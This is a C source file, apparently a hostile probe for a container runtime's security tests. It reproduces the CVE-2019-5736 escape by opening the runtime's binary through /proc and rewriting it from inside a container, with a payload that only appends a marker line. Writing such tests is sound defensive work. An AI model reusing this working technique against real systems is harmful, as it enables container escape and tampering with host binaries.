/*
 * A hostile program for tests/security/host_binary_test.ts: it tries what
 * CVE-2019-5736 did to runc, against the runtime binary that started its
 * container (a copy of deno, in the tests). It has no libc, so it also runs
 * as an ELF interpreter, where a libc's start-up code would read the auxv
 * of the program being interpreted.
 *
 *   probe watch DEV:INO SECONDS
 *       Scans /proc for processes whose /proc/<pid>/exe opens to the file
 *       DEV:INO (a runtime process joining the container), keeps that
 *       descriptor, then tries to reopen it for writing until SECONDS pass.
 *   probe write FD SECONDS
 *       Tries to reopen descriptor FD for writing until SECONDS pass; on
 *       success appends a line to the file.
 *   anything else (the probe is the image's /lib64/ld-linux-x86-64.so.2 and
 *   the command was /proc/self/exe)
 *       Opens /proc/self/exe, which is the runtime's binary if the runtime
 *       exec'd the command from a clone of itself, then becomes
 *       `/probe write FD 10` to wait for the runtime to exit.
 *
 * Every line it prints starts with "probe:" and goes to stdout.
 */
#define SYS_read 0
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_fstat 5
#define SYS_nanosleep 35
#define SYS_getpid 39
#define SYS_execve 59
#define SYS_exit_group 231
#define SYS_clock_gettime 228
#define SYS_getdents64 217

#define O_RDONLY 0
#define O_WRONLY 1
#define O_APPEND 02000
#define O_DIRECTORY 0200000
#define O_CLOEXEC 02000000

static long sys(long n, long a, long b, long c) {
  long ret;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return ret;
}

struct stat_prefix { /* the start of struct stat on x86_64 */
  unsigned long st_dev, st_ino, rest[16];
};

static unsigned long length(const char *s) {
  unsigned long n = 0;
  while (s[n]) n++;
  return n;
}

static void say(const char *s) { sys(SYS_write, 1, (long)s, length(s)); }

static char *decimal(unsigned long v, char *end) { /* writes backwards, returns the start */
  *--end = 0;
  do *--end = '0' + v % 10; while (v /= 10);
  return end;
}

static unsigned long parse(const char **s) {
  unsigned long v = 0;
  while (**s >= '0' && **s <= '9') v = v * 10 + (unsigned long)(*(*s)++ - '0');
  return v;
}

static void say_number(const char *before, unsigned long v, const char *after) {
  char buf[32];
  say(before);
  say(decimal(v, buf + sizeof buf));
  say(after);
}

static long now_ms(void) {
  long ts[2];
  sys(SYS_clock_gettime, 1 /* CLOCK_MONOTONIC */, (long)ts, 0);
  return ts[0] * 1000 + ts[1] / 1000000;
}

static void nap(long ms) {
  long ts[2] = {0, ms * 1000000};
  sys(SYS_nanosleep, (long)ts, 0, 0);
}

static void join(char *out, const char *a, const char *b, const char *c) {
  const char *parts[3] = {a, b, c};
  for (int i = 0; i < 3; i++)
    for (const char *p = parts[i]; *p;) *out++ = *p++;
  *out = 0;
}

/* Reopens fd for writing until it works (the binary is no longer running) or time is up. */
static int write_through(long fd, long seconds) {
  char number[32], path[64];
  join(path, "/proc/self/fd/", decimal((unsigned long)fd, number + sizeof number), "");
  long deadline = now_ms() + seconds * 1000;
  long last = 0;
  while (now_ms() < deadline) {
    long w = sys(SYS_open, (long)path, O_WRONLY | O_APPEND | O_CLOEXEC, 0);
    if (w >= 0) {
      const char line[] = "\n# written by exe_probe through a container\n";
      long n = sys(SYS_write, w, (long)line, sizeof line - 1);
      say(n > 0 ? "probe: wrote to the runtime's binary\n" : "probe: opened for writing, write failed\n");
      return n > 0 ? 0 : 1;
    }
    last = -w;
    nap(5);
  }
  say_number("probe: could not write (errno ", (unsigned long)last, ")\n");
  return 1;
}

static int watch(const char *target, long seconds) {
  unsigned long dev = parse(&target);
  if (*target == ':') target++;
  unsigned long ino = parse(&target);
  long self = sys(SYS_getpid, 0, 0, 0);
  long deadline = now_ms() + seconds * 1000;
  static char entries[16384];
  char number[32], path[64];
  say("probe: watching\n");
  while (now_ms() < deadline) {
    long dir = sys(SYS_open, (long)"/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0);
    if (dir < 0) return 1;
    long n;
    while ((n = sys(SYS_getdents64, dir, (long)entries, sizeof entries)) > 0) {
      for (long at = 0; at < n;) {
        unsigned short reclen = *(unsigned short *)(entries + at + 16);
        const char *name = entries + at + 19;
        at += reclen;
        const char *p = name;
        unsigned long pid = parse(&p);
        if (*p || pid == 0 || (long)pid == self) continue;
        join(path, "/proc/", decimal(pid, number + sizeof number), "/exe");
        long fd = sys(SYS_open, (long)path, O_RDONLY, 0);
        if (fd < 0) continue;
        struct stat_prefix st;
        if (sys(SYS_fstat, fd, (long)&st, 0) == 0 && st.st_dev == dev && st.st_ino == ino) {
          sys(SYS_close, dir, 0, 0);
          say_number("probe: opened the runtime's binary through /proc/", pid, "/exe\n");
          return write_through(fd, (deadline - now_ms()) / 1000 + 1);
        }
        sys(SYS_close, fd, 0, 0);
      }
    }
    sys(SYS_close, dir, 0, 0);
  }
  say("probe: never saw the runtime's binary\n");
  return 1;
}

/* As the ELF interpreter of /proc/self/exe: what is this process executing? */
static int interpret(char **envp) {
  long fd = sys(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);
  if (fd < 0) {
    say("probe: cannot open /proc/self/exe\n");
    return 1;
  }
  struct stat_prefix st;
  sys(SYS_fstat, fd, (long)&st, 0);
  say_number("probe: exe ", st.st_dev, ":");
  say_number("", st.st_ino, "\n");
  /* Leave the binary's image (it cannot be written while this process runs it), keeping fd. */
  char number[32];
  char *args[] = {"/probe", "write", decimal((unsigned long)fd, number + sizeof number), "10", 0};
  sys(SYS_execve, (long)"/probe", (long)args, (long)envp);
  say("probe: execve /probe failed\n");
  return 1;
}

static int equal(const char *a, const char *b) {
  while (*a && *a == *b) a++, b++;
  return *a == *b;
}

void start(long *sp) {
  int argc = (int)sp[0];
  char **argv = (char **)(sp + 1);
  char **envp = argv + argc + 1;
  int status;
  if (argc == 4 && equal(argv[1], "watch")) {
    const char *s = argv[3];
    status = watch(argv[2], (long)parse(&s));
  } else if (argc == 4 && equal(argv[1], "write")) {
    const char *f = argv[2], *s = argv[3];
    long fd = (long)parse(&f);
    status = write_through(fd, (long)parse(&s));
  } else {
    status = interpret(envp);
  }
  sys(SYS_exit_group, status, 0, 0);
}

__asm__(".globl _start\n_start:\n xor %ebp, %ebp\n mov %rsp, %rdi\n and $-16, %rsp\n call start\n hlt\n");
